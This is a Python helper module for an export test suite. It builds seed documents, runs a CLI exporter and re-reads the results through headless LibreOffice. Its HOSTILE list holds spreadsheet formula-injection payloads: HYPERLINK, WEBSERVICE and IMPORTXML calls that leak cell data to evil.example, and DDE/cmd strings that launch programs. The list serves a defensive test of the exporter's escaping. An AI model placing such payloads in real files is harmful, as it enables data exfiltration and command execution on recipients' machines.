# SPDX-License-Identifier: GPL-3.0-or-later
"""What the export checks share: the built ziping-cli, the seed, outside tools.

A missing tool is a failure, never a skip: the export is only known to be right when
the programs people open it with say so.
"""
import copy
import json
import os
import shutil
import subprocess
import sys
import tempfile

FAILURES = []
TEMP_DIRS = []


def fail(message):
    FAILURES.append(message)
    print('FAIL: ' + message, file=sys.stderr)


def check(condition, message):
    if not condition:
        fail(message)
    return condition


def equal(got, expected, what):
    return check(got == expected, f'{what}: expected {expected!r}, got {got!r}')


def finish(name):
    if FAILURES:
        # Kept for a look: the exported files and LibreOffice's view of them.
        print(f'{name}: {len(FAILURES)} failure(s); files kept in {" ".join(TEMP_DIRS)}', file=sys.stderr)
        sys.exit(1)
    for directory in TEMP_DIRS:
        shutil.rmtree(directory, ignore_errors=True)
    print(f'{name}: all checks passed')
    sys.exit(0)


def tool(name):
    path = shutil.which(name)
    if path is None:
        print(f'FAIL: {name} is not installed; this test needs it', file=sys.stderr)
        sys.exit(1)
    return path


def seed_path():
    examples = os.environ.get('ZIPING_EXAMPLES')
    if not examples:
        print('FAIL: ZIPING_EXAMPLES is not set', file=sys.stderr)
        sys.exit(1)
    return os.path.join(examples, 'jiangan-2024.ziping')


def seed_document():
    with open(seed_path(), encoding='utf-8') as f:
        return json.load(f)


def write_document(document, path):
    with open(path, 'w', encoding='utf-8') as f:
        json.dump(document, f, ensure_ascii=False, indent=2)
    return path


def variant(mutate, directory, name='variant.ziping'):
    """A copy of the seed changed by mutate(document)."""
    document = copy.deepcopy(seed_document())
    mutate(document)
    return write_document(document, os.path.join(directory, name))


def indicator_names(document):
    for form in document['forms']:
        for goal in form.get('goals', []):
            for indicator in goal.get('indicators', []):
                yield form, indicator


def run_cli(cli, *args):
    return subprocess.run([cli, 'export', *args], capture_output=True, text=True)


def export(cli, source, fmt, out, *extra):
    result = run_cli(cli, source, '--format', fmt, '-o', out, *extra)
    if result.returncode != 0:
        print(f'FAIL: export {fmt} exited {result.returncode}: {result.stderr}', file=sys.stderr)
        sys.exit(1)
    return out


def temp_dir():
    directory = tempfile.mkdtemp(prefix='zp-export-check-')
    TEMP_DIRS.append(directory)
    return directory


# What a hostile sender puts in a workbook: every one of these runs as a formula in a
# spreadsheet program if the CSV carries it as it is.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"详情")',
    '=WEBSERVICE("http://evil.example/steal")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"A1")',
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1;1)',
    '\t=1+1',
    '\r=1+1',
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=";A2);"//a")',
]
# Texts that are numbers stay numbers.
NUMBERS = ['-5', '+2.5', '-10%']


def hostile_document(document):
    form = document['forms'][3]
    form['name'] = HOSTILE[0]
    form['goals'][0]['text'] = HOSTILE[1]
    texts = HOSTILE[1:] + NUMBERS
    indicators = form['goals'][0]['indicators']
    for i, indicator in enumerate(indicators):
        indicator['name'] = texts[i % len(texts)]
        indicator['target'] = texts[(i + 3) % len(texts)]
        indicator['actual'] = texts[(i + 6) % len(texts)]
        indicator['deviation-note'] = texts[(i + 9) % len(texts)]
    document['forms'] = [form]


LO_RECALC = '''<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry"
           xmlns:xs="http://www.w3.org/2001/XMLSchema"
           xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item>
</oor:items>
'''


def libreoffice_sheets(xlsx, directory):
    """Every sheet as LibreOffice shows it after recalculating every formula on load
    (a fresh profile told to recalculate, so cached values prove nothing):
    {sheet name: [row as list of shown texts]}."""
    import csv

    soffice = tool('soffice')
    profile = os.path.join(directory, 'lo-profile')
    os.makedirs(os.path.join(profile, 'user'), exist_ok=True)
    with open(os.path.join(profile, 'user', 'registrymodifications.xcu'), 'w') as f:
        f.write(LO_RECALC)
    outdir = os.path.join(directory, 'lo-csv')
    os.makedirs(outdir, exist_ok=True)
    # 44 comma, 34 quote, 76 UTF-8, row 1, …, token 9 true: as shown; token 12 -1: all sheets.
    # The test environment makes GLib warnings fatal: not LibreOffice's business.
    env = {k: v for k, v in os.environ.items() if k not in ('G_DEBUG', 'MALLOC_CHECK_')}
    result = subprocess.run(
        [soffice, '--headless', '-env:UserInstallation=file://' + profile,
         '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1',
         '--outdir', outdir, xlsx],
        capture_output=True, text=True, timeout=180, env=env)
    stem = os.path.splitext(os.path.basename(xlsx))[0]
    sheets = {}
    for name in os.listdir(outdir):
        if name.startswith(stem + '-') and name.endswith('.csv'):
            with open(os.path.join(outdir, name), encoding='utf-8', newline='') as f:
                sheets[name[len(stem) + 1:-4]] = list(csv.reader(f))
    if not sheets:
        print(f'FAIL: LibreOffice converted nothing: {result.stdout} {result.stderr}', file=sys.stderr)
        sys.exit(1)
    return sheets


def libreoffice_convert(source, directory, fmt, infilter=None):
    """source converted by LibreOffice headless (a fresh profile for each run) into fmt,
    read with the import filter options infilter when given; returns the new file's path."""
    soffice = tool('soffice')
    profile = tempfile.mkdtemp(prefix='lo-profile-', dir=directory)
    outdir = tempfile.mkdtemp(prefix='lo-out-', dir=directory)
    env = {k: v for k, v in os.environ.items() if k not in ('G_DEBUG', 'MALLOC_CHECK_')}
    command = [soffice, '--headless', '-env:UserInstallation=file://' + profile]
    if infilter is not None:
        command.append('--infilter=' + infilter)
    command += ['--convert-to', fmt, '--outdir', outdir, source]
    result = subprocess.run(command, capture_output=True, text=True, timeout=180, env=env)
    stem = os.path.splitext(os.path.basename(source))[0]
    out = os.path.join(outdir, stem + '.' + fmt)
    if not os.path.exists(out):
        print(f'FAIL: LibreOffice did not convert {source}: {result.stdout} {result.stderr}',
              file=sys.stderr)
        sys.exit(1)
    return out
